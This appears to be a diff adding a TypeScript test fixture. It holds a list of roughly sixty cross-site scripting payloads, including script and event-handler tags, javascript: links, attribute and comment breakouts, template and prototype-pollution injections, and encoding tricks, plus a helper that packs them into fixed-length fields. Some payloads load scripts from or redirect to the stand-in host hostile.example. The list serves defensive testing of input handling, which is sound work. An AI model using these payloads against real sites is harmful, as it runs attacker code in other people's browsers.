@@ -1,0 +1,83 @@
+/**
+ * What somebody may type who wants to run something in another's browser: each would, were it taken for markup, for a
+ * link, for script or for a template, call `alert`, set `__hostile`, or fetch from hostile.example. Each fits a field of
+ * 80 characters.
+ */
+export const HOSTILE_TEXTS = [
+  '<script>alert(1)</script>',
+  '<ScRiPt/x>alert(1)</sCrIpT >',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script src=//hostile.example/x.js></script>',
+  '</script><script>__hostile=1</script>',
+  // Handlers, which need nobody to do anything.
+  '<img src=x onerror=alert(1)>',
+  '<img src=x\nonerror=alert(1)\n>',
+  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
+  '<svg/onload=alert(1)>',
+  '<svg\fonload=alert(1)>',
+  '<svg><script>alert&#40;1)</script>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<body onload=alert(1)>',
+  '<video><source onerror=alert(1)>',
+  '<marquee onstart=alert(1)>',
+  // Pages within the page, and other pages.
+  '<iframe srcdoc="<script>parent.__hostile=1</script>">',
+  '<object data="data:text/html,<script>alert(1)</script>">',
+  '<base href=//hostile.example/>',
+  '<meta http-equiv=refresh content="0;url=//hostile.example/">',
+  // Links.
+  '<a href="javascript:alert(1)">x</a>',
+  'javascript:alert(1)//',
+  'JaVa&Tab;ScRiPt:alert(1)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  // Out of an attribute, an element, a comment.
+  '" onmouseover="alert(1)" x="',
+  "' autofocus onfocus='alert(1)' x='",
+  '` onerror=alert(1) `',
+  '"><svg onload=alert(1)>',
+  "'><svg onload=alert(1)>",
+  '</title><img src=x onerror=alert(1)>',
+  '</textarea><svg onload=alert(1)>',
+  '--><svg onload=alert(1)><!--',
+  ']]><svg onload=alert(1)>',
+  // Out of a string, into a template.
+  "'-alert(1)-'",
+  '\\");alert(1)//',
+  '"},"__proto__":{"hostile":1},"x":{"',
+  "{{constructor.constructor('alert(1)')()}}",
+  '${alert(1)}',
+  '<%= alert(1) %>',
+  '#{alert(1)}',
+  '__proto__',
+  'constructor',
+  // Styles.
+  '<style>*{background:url(//hostile.example/x)}</style>',
+  '<link rel=stylesheet href=//hostile.example/x.css>',
+  '<p style="width:expression(alert(1))">',
+  // What becomes markup only when it is read a second time.
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  // What another alphabet or direction hides.
+  '＜script＞alert(1)＜/script＞',
+  'x\u2028alert(1)\u2029//',
+  '<\u202escript>alert(1)</script\u202c>',
+];
+
+/** As few fields of a length as hold all those texts, each of them whole. */
+export function packed(longest: number, texts: readonly string[] = HOSTILE_TEXTS): string[] {
+  const fields: string[] = [];
+  for (const text of texts.toSorted((a, b) => b.length - a.length)) {
+    const place = fields.findIndex((field) => field.length + 1 + text.length <= longest);
+    const field = fields[place];
+    if (field !== undefined) fields[place] = `${field} ${text}`;
+    else if (text.length <= longest) fields.push(text);
+  }
+  return fields;
+}
